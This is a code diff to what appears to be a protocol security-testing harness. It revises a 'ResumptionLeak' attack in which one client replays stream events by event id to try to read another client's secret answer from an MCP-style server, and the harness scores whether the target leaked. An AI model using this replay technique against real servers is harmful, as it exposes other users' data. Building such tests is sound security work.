@@ -17,7 +17,7 @@ from agentcomm.protocols.attacks.trying import tried
 
 JSON = {"accept": "application/json, text/event-stream", "content-type": "application/json"}
 BOB = {**JSON, "authorization": "Bearer bob"}
-SECRET, LAST = 424242, 535353  # what alice is answered, and the attacker last
+SECRET = 424242
 IDS = range(1, 8)  # ids of calls that a client's first calls have
 BODY = 8 * 1024 * 1024  # bytes
 
@@ -105,24 +105,30 @@ class ResumptionLeak(ProtocolAttack[MCPParts]):
             session = {"mcp-session-id": got.headers.get("mcp-session-id", ""), "mcp-protocol-version": LEGACY}
             ready = {"jsonrpc": "2.0", "method": "notifications/initialized"}
             await bob.post(url, json=ready, headers={**BOB, **session})
-            own: list[str] = []
-            for number in IDS:
-                text = (await bob.post(url, json=call(number), headers={**BOB, **session})).text
-                own += [line.partition(":")[2].strip() for line in text.splitlines() if line.startswith("id:")][-1:]
+
+            async def events() -> list[str]:
+                """The last event of the answer to each of bob's calls, refused or not."""
+                texts = [(await bob.post(url, json=call(n), headers={**BOB, **session})).text for n in IDS]
+                found = [[line for line in text.splitlines() if line.startswith("id:")] for text in texts]
+                return [lines[-1].partition(":")[2].strip() for lines in found if lines]
+
+            own = await events()
             async with client(parts, target.url, "alice", mode="legacy") as alice:
                 plain = await tried(alice.call_tool("add", {"a": SECRET, "b": 0}))
             # Bob's later calls of the same ids end his replays: a replay that has come to them has left nothing out.
-            for number in IDS if own else ():
-                await bob.post(url, json=call(number, a=LAST), headers={**BOB, **session})
-            resuming = (_resumed(bob, url, {**BOB, **session, "last-event-id": last}) for last in own)
+            ends = await events() if own else []
+            resuming = (
+                _resumed(bob, url, {**BOB, **session, "last-event-id": last}, end)
+                for last, end in zip(own, ends, strict=True)
+            )
             seen = await asyncio.gather(*resuming)
         honest = plain.worked and result_of(plain.value) == SECRET
         leaked = any(str(SECRET) in text for text in seen)
         return Outcome(leaked, honest, {"resumed": len(own), "leaked": leaked, "honest": plain.word})
 
 
-async def _resumed(caller: httpx2.AsyncClient, url: str, headers: dict[str, str]) -> str:
-    """What a resumed stream gives until the secret, the last answer of the attacker's own calls, or its end.
+async def _resumed(caller: httpx2.AsyncClient, url: str, headers: dict[str, str], end: str) -> str:
+    """What a resumed stream gives until the secret, the event ``end``, or its own end.
 
     Raises:
         NoAnswerError: If none of them comes in time.
@@ -134,7 +140,7 @@ async def _resumed(caller: httpx2.AsyncClient, url: str, headers: dict[str, str]
         async with caller.stream("GET", url, headers=headers) as answer:
             async for chunk in answer.aiter_raw():
                 text += chunk
-                if any(str(value).encode() in text for value in (SECRET, LAST)):
+                if any(str(value).encode() in text for value in (SECRET, end)):
                     break
 
     await tried(read())
